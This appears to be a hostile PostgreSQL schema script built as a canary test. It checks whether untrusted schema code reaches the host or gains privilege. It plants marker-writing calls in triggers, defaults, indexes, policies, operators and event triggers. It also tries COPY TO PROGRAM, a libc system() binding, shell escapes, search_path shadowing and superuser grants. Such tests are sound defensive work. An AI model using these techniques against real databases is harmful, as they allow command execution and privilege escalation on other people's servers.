-- A schema that tries to reach the machine wherever its code is called. MARK is a folder that anybody may write to.
CREATE FUNCTION public.tell(who text) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'touch MARK/program.' || who); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L', 'MARK/file.' || who); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L', 'MARK/reset.' || who); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L', 'MARK/role.' || who); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE guest SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN who;
END $f$;
CREATE FUNCTION public.pure(who text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN public.tell(who); END $f$;
CREATE FUNCTION public.stab(who text) RETURNS text LANGUAGE plpgsql STABLE AS $f$ BEGIN RETURN public.tell(who); END $f$;
CREATE FUNCTION public.same(a text, who text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.tell(who); RETURN a; END $f$;
CREATE FUNCTION public.holds(a text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.tell('domain'); RETURN true; END $f$;
CREATE FUNCTION public.fired() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.tell('trigger'); RETURN coalesce(new, old); END $f$;
CREATE DOMAIN public.checked AS text CHECK (public.holds(value));
CREATE TABLE public.customers (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  name text NOT NULL DEFAULT public.tell('default'),
  mail public.checked,
  low text GENERATED ALWAYS AS (public.same(name, 'generated')) STORED,
  CHECK (public.same(name, 'check') = name)
);
CREATE TABLE public.orders (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  customer_id bigint REFERENCES public.customers, state text NOT NULL, total numeric
);
CREATE INDEX ON public.orders (public.same(state, 'expression'));
CREATE INDEX ON public.orders (total) WHERE state = public.pure('predicate');
CREATE INDEX ON public.customers (name, (public.pure('constant') || name));
CREATE STATISTICS public.together ON (public.same(state, 'statistics')), total FROM public.orders;
CREATE TRIGGER before_customer BEFORE INSERT OR UPDATE OR DELETE ON public.customers FOR EACH ROW EXECUTE FUNCTION public.fired();
CREATE TRIGGER before_order BEFORE INSERT OR UPDATE OR DELETE ON public.orders FOR EACH ROW EXECUTE FUNCTION public.fired();
ALTER TABLE public.orders ENABLE ROW LEVEL SECURITY;
CREATE POLICY mine ON public.orders USING (public.same(state, 'policy') = state);
CREATE MATERIALIZED VIEW public.seen AS SELECT id, public.tell('view') AS who FROM public.orders;
CREATE RULE also AS ON INSERT TO public.customers DO ALSO SELECT public.tell('rule');
CREATE FUNCTION public.joined(a name, b text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.tell('operator'); RETURN a::text OPERATOR(pg_catalog.||) b; END $f$;
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = text, FUNCTION = public.joined);
CREATE SCHEMA evil;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.tell('shadowed'); RETURN pg_catalog.current_setting($1); END $f$;
DO $$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, public, pg_catalog', pg_catalog.current_database()); END $$;
CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.tell('event'); END $f$;
CREATE EVENT TRIGGER whatever ON ddl_command_end EXECUTE FUNCTION public.on_event();
CREATE EVENT TRIGGER entering ON login EXECUTE FUNCTION public.on_event();
CREATE ROLE above SUPERUSER;
ALTER ROLE guest SUPERUSER;
GRANT pg_execute_server_program, pg_write_server_files TO guest;
GRANT postgres TO guest;
GRANT EXECUTE ON FUNCTION pg_catalog.lo_export(oid, text) TO guest;
GRANT CREATE ON SCHEMA pg_catalog TO guest;
ALTER FUNCTION public.tell(text) SECURITY DEFINER;
ALTER FUNCTION public.tell(text) OWNER TO postgres;
ALTER FUNCTION public.tell(text) SECURITY INVOKER;
GRANT SELECT ON public.orders TO PUBLIC; COPY (SELECT 1) TO PROGRAM 'touch MARK/second';
ALTER SYSTEM SET archive_command = 'touch MARK/archive';
CREATE EXTENSION file_fdw;
CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE public.programs (a text) SERVER files OPTIONS (program 'touch MARK/foreign');
CREATE FUNCTION public.libc(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system';
COPY (SELECT 1) TO PROGRAM 'touch MARK/direct';
COPY public.orders (state) FROM PROGRAM 'touch MARK/from; echo x';
\! touch MARK/shell
\o MARK/output
DO $$ BEGIN PERFORM public.tell('block'); END $$;
INSERT INTO public.customers (name) SELECT 'a' || g FROM generate_series(1, 20) AS g;
INSERT INTO public.orders (customer_id, state, total) SELECT g, 'open', g FROM generate_series(1, 20) AS g;
